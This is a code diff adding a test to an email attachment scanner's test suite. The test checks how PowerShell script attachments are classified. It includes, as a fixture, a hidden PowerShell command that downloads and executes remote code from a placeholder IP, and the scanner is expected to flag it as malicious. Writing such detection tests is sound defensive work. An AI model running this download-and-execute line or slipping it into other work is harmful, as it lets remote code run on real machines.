@@ -43,6 +43,20 @@ const mail = (name: string, content: string, encoding = 'base64'): Uint8Array =>
 suite('a mail', () => {
   test('with a script', () => has(mail('"invoice.js"', 'a = 1'), 'Mail.ProgramAttachment'))
   test('with a script that is not encoded', () => has(mail('"invoice.vbs"', 'a = 1', ''), 'Mail.ProgramAttachment'))
+  test('with a script that Windows opens in an editor is judged by its content', () => {
+    const names = ['"backup.ps1"', '"=?utf-8?Q?backup=2Eps1?="']
+    for (const name of names)
+      for (const encoding of ['base64', '', '7bit', '7-bit'])
+        assert.deepEqual(accusations(mail(name, 'Copy-Item D:\\Data E:\\Backup -Recurse', encoding)), [
+          'Mail.ScriptAttachment',
+        ])
+    const hidden = 'powershell -w hidden -c "IEX (New-Object Net.WebClient).DownloadString(\'http://203.0.113.5/a\')"'
+    for (const encoding of ['base64', '', '7bit', '7-bit']) {
+      const { findings } = inspect(mail('"backup.ps1"', hidden, encoding))
+      assert.ok(findings.some(({ severity, path }) => severity === 'malicious' && path.includes('backup.ps1')))
+    }
+    has(mail('"invoice.pdf.ps1"', 'a'), 'Mail.ProgramAttachment')
+  })
   test('with an encoded name', () => has(mail(`"=?utf-8?B?${btoa('invoice.hta')}?="`, 'a'), 'Mail.ProgramAttachment'))
   test('with a percent-encoded name', () => has(mail("utf-8''invoice%2Ejs", 'a'), 'Mail.ProgramAttachment'))
   test('with a misleading name', () => has(mail('"invoice.pdf.iso"', 'a'), 'Name.DoubleExtension'))
